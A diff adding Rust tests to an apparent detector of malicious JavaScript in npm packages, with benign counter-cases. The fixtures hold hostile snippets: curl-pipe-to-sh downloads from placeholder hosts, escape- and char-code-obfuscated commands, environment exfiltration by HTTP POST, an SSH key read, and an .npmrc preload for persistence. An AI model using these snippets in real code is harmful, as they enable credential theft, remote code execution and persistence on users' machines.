@@ -583,3 +583,139 @@ fn parameters_shadow_outer_names() {
     let src = "let v; v = atob('aWQ=');\nfunction k(v) { try { return (0, eval)(v); } catch (e) {} }\nmodule.exports = k;\n";
     assert!(!has(src, K::DecodeExecute), "{:?}", facts(src));
 }
+
+#[test]
+fn constant_code_given_to_eval_is_read() {
+    // Constant code runs as if written in place.
+    let src =
+        "eval(\"require('child_process').execSync('curl -s http://payload.invalid/i | sh')\");\n";
+    let f = facts(src);
+    assert!(
+        f.iter()
+            .any(|x| x.0 == K::DownloadExecute && x.2.contains("in the code passed to eval()")),
+        "{f:?}"
+    );
+    // Harmless constant code stays quiet.
+    assert!(facts("var g = eval('this');\n").is_empty());
+}
+
+#[test]
+fn code_spelled_in_escapes_is_decoded_data() {
+    // `require('os').hostname()` written as \x escapes, then run.
+    let src = r#"var p = "\x72\x65\x71\x75\x69\x72\x65\x28\x27\x6f\x73\x27\x29\x2e\x68\x6f\x73\x74\x6e\x61\x6d\x65\x28\x29";
+new Function(p)();
+"#;
+    assert!(kinds(src).contains(&K::DecodeExecute), "{:?}", facts(src));
+    // Escaped control characters (terminal colours) are not hiding anything.
+    let ansi = r#"var c = "\u001b[31m\u001b[39m\u001b[1m\u001b[22m\u001b[2m\u001b[3m\u001b[4m\u001b[5m\u001b[7m\u001b[8m"; eval("1");"#;
+    assert!(
+        !kinds(ansi).contains(&K::DecodeExecute),
+        "{:?}",
+        facts(ansi)
+    );
+}
+
+#[test]
+fn an_unknown_decoder_feeding_eval() {
+    let src = "const hidden = stego.decode(fs.readFileSync('cover.png'));\neval(hidden);\n";
+    assert!(kinds(src).contains(&K::DecodeExecute), "{:?}", facts(src));
+    // A decoder's output that is only printed.
+    let quiet = "console.log(punycodeLib.decode('xn--mnchen-3ya'));\n";
+    assert!(!kinds(quiet).contains(&K::DecodeExecute));
+}
+
+#[test]
+fn node_modules_as_globals_in_node_e_code() {
+    // `node -e` code sees `child_process` without requiring it.
+    let src = "child_process.execSync('curl -fsSL http://payload.invalid/a.sh | sh');\n";
+    assert!(kinds(src).contains(&K::DownloadExecute), "{:?}", facts(src));
+}
+
+#[test]
+fn string_array_rotation_and_commands_in_char_codes() {
+    let rotation = "var a = f(); while (!![]) { try { if (g()) break; a['push'](a['shift']()); } catch (e) { a['push'](a['shift']()); } }\n";
+    assert!(
+        facts(rotation)
+            .iter()
+            .any(|x| x.0 == K::Obfuscation && x.2.contains("obfuscator.io")),
+        "{:?}",
+        facts(rotation)
+    );
+    // A queue rotated by hand, with ordinary property access.
+    assert!(facts("const q = [1, 2, 3]; q.push(q.shift());\n").is_empty());
+    // "wget http://x.invalid" in character codes.
+    let codes = "var c = String.fromCharCode(119, 103, 101, 116, 32, 104, 116, 116, 112, 58, 47, 47, 120, 46, 105, 110, 118, 97, 108, 105, 100);\n";
+    assert!(
+        facts(codes)
+            .iter()
+            .any(|x| x.0 == K::Obfuscation && x.2.contains("hidden in character codes")),
+        "{:?}",
+        facts(codes)
+    );
+    // Letters from char codes that are neither a URL nor a command.
+    let letters =
+        "var s = String.fromCharCode(72, 101, 108, 108, 111, 44, 32, 119, 111, 114, 108, 100);\n";
+    assert!(
+        !kinds(letters).contains(&K::Obfuscation),
+        "{:?}",
+        facts(letters)
+    );
+}
+
+#[test]
+fn secrets_inside_an_object_and_vm_sandbox_globals() {
+    // The environment as one property of the body.
+    let src = "const http = require('http');\nconst r = http.request({ host: 'c.example.invalid', method: 'POST' });\nr.end(JSON.stringify({ env: process.env, cwd: process.cwd() }));\n";
+    assert!(
+        kinds(src).contains(&K::SecretExfiltration),
+        "{:?}",
+        facts(src)
+    );
+    // Constant code run in a sandbox whose globals are the environment and https.
+    let vm = r#"const vm = require('vm');
+const code = ['var b = JSON.stringify(env);', 'var q = https.request({ host: "c.example.invalid", method: "POST" });', 'q.end(b);'].join('\n');
+vm.runInNewContext(code, { env: process.env, https: require('https'), JSON });
+"#;
+    assert!(
+        facts(vm)
+            .iter()
+            .any(|x| x.0 == K::SecretExfiltration && x.2.contains("vm.runInNewContext")),
+        "{:?}",
+        facts(vm)
+    );
+    // Spawning with the environment passes it to a child, it sends nothing.
+    let spawn = "const { spawn } = require('child_process');\nspawn('node', ['build.js'], { env: process.env, stdio: 'inherit' });\n";
+    assert!(
+        !kinds(spawn).contains(&K::SecretExfiltration),
+        "{:?}",
+        facts(spawn)
+    );
+}
+
+#[test]
+fn a_credential_path_handed_to_a_helper_is_read() {
+    let src = "const os = require('os'); const path = require('path'); const fs = require('fs');\nconst out = {};\nfunction grab(p) { try { out[p] = fs.readFileSync(p, 'utf8'); } catch (e) {} }\ngrab(path.join(os.homedir(), '.ssh', 'id_rsa'));\n";
+    assert!(
+        facts(src)
+            .iter()
+            .any(|x| x.0 == K::SecretRead && x.2.contains("to a function of the package")),
+        "{:?}",
+        facts(src)
+    );
+    // Ordinary paths handed to helpers.
+    let quiet = "const path = require('path');\nfunction load(p) { return require(p); }\nload(path.join(__dirname, 'lib', 'config.json'));\n__webpack_require__('./dist/server/web/cookies.js');\n";
+    assert!(!kinds(quiet).contains(&K::SecretRead), "{:?}", facts(quiet));
+}
+
+#[test]
+fn preloads_written_into_the_users_npmrc_are_persistence() {
+    let src = "const fs = require('fs'); const os = require('os'); const path = require('path');\nconst rc = path.join(os.homedir(), '.npmrc');\nfs.appendFileSync(rc, `\\nnode-options=--require ${path.join(os.homedir(), '.h.js')}\\n`);\n";
+    assert!(kinds(src).contains(&K::Persistence), "{:?}", facts(src));
+    // A registry setting written there runs nothing.
+    let quiet = "const fs = require('fs'); const os = require('os'); const path = require('path');\nfs.appendFileSync(path.join(os.homedir(), '.npmrc'), 'registry=https://npm.example.invalid/\\n');\n";
+    assert!(
+        !kinds(quiet).contains(&K::Persistence),
+        "{:?}",
+        facts(quiet)
+    );
+}
